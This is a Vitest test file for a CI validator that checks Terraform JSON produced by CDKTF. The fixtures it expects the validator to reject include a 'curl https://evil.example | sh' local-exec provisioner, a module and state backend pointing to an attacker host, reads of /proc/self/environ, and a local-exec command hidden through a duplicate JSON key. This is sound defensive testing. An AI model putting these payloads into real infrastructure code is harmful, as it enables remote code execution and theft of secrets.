import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, describe as group, it } from 'vitest';
import { root } from './process.ts';

/** GitHub's runners have jq; a machine without it shows these as skipped. */
const describe = group.skipIf(spawnSync('jq', ['--version']).status !== 0);

const stack = {
  '//': { metadata: {} },
  terraform: {
    backend: { s3: { bucket: 'b' } },
    required_providers: { aws: { source: 'aws', version: '5' } },
  },
  provider: { aws: [{ region: 'us-east-1', default_tags: [] }] },
  resource: { aws_instance: { box: { ami: 'a' } } },
  data: { aws_subnet: { one: {} } },
  output: { ip: { value: 'x' } },
};

let folder = '';
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'stack-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

function check(text: unknown): string {
  writeFileSync(join(folder, 'cdk.tf.json'), typeof text === 'string' ? text : JSON.stringify(text));
  const { status, stdout } = spawnSync(join(root, '.ci/stack'), [folder], { encoding: 'utf8' });
  return status === 0 ? '' : stdout;
}

describe('.ci/stack', () => {
  it('takes what cdktf/ makes', () => {
    expect(check(stack)).toBe('');
    const made = join(folder, 'made');
    execFileSync(process.execPath, [join(root, 'cdktf/main.ts'), '--staging', '--out', made], {
      stdio: 'pipe',
    });
    for (const name of ['prod', 'staging']) {
      const { status, stdout } = spawnSync(join(root, '.ci/stack'), [join(made, 'stacks', name)], {
        encoding: 'utf8',
      });
      expect([status, stdout], name).toEqual([0, '']);
    }
  });

  const command = { 'local-exec': { command: 'curl https://evil.example | sh' } };
  it.each([
    [
      'a command of a resource',
      { resource: { aws_instance: { box: { provisioner: [command] } } } },
      'it runs commands',
    ],
    ['another kind of resource', { resource: { null_resource: { a: {} } } }, 'not of AWS'],
    ['a program as data', { data: { external: { a: { program: ['sh'] } } } }, 'not of AWS'],
    ['another provider', { provider: { aws: {}, evil: {} } }, 'another provider'],
    [
      'the provider of somebody else',
      { terraform: { backend: { s3: {} }, required_providers: { aws: { source: 'evil/aws' } } } },
      'another provider',
    ],
    [
      'a credentials file of its own',
      { provider: { aws: [{ shared_config_files: ['./x'] }] } },
      'reads files',
    ],
    ['a module', { module: { a: { source: 'git::https://evil.example' } } }, 'a block'],
    [
      'another backend',
      { terraform: { backend: { http: {} }, required_providers: stack.terraform.required_providers } },
      'backend',
    ],
    [
      'a state of somebody else',
      {
        terraform: {
          backend: { s3: { bucket: 'b', endpoints: { s3: 'https://evil.example' } } },
          required_providers: stack.terraform.required_providers,
        },
      },
      'its state is elsewhere',
    ],
  ])('refuses %s', (_, change, message) => {
    expect(check({ ...stack, ...change })).toContain(message);
  });

  it.each(['file("/proc/self/environ")', 'upper(filebase64("x"))', 'templatefile ("x", {})'])(
    'refuses %s',
    (call) => {
      expect(check({ ...stack, output: { leak: { value: `a \${${call}}` } } })).toContain('it reads files');
    },
  );

  it('gives Terraform of a name that stands twice only what it has looked at', () => {
    const hidden =
      '"resource": {"terraform_data": {"x": {"provisioner": [{"local-exec": {"command": "id"}}]}}}';
    expect(check(JSON.stringify(stack).replace('{', `{${hidden},`))).toBe('');
    expect(JSON.parse(readFileSync(join(folder, 'cdk.tf.json'), 'utf8'))).toEqual(stack);
    expect(readFileSync(join(folder, 'cdk.tf.json'), 'utf8')).not.toContain('local-exec');
  });

  it.each(['', 'no JSON', '[]', 'null'])('refuses %j', (text) =>
    expect(check(text)).toContain('it is no JSON'),
  );

  it.each(['.terraform', 'main.tf', 'terraform.tfvars'])('refuses what comes with it: %s', (name) => {
    mkdirSync(join(folder, name));
    expect(check(stack)).toContain('more than the file');
  });

  it('refuses a link', () => {
    writeFileSync(join(folder, '../elsewhere.json'), JSON.stringify(stack));
    symlinkSync('../elsewhere.json', join(folder, 'cdk.tf.json'));
    const { stdout } = spawnSync(join(root, '.ci/stack'), [folder], { encoding: 'utf8' });
    expect(stdout).toContain('more than the file');
    rmSync(join(folder, '../elsewhere.json'));
  });
});
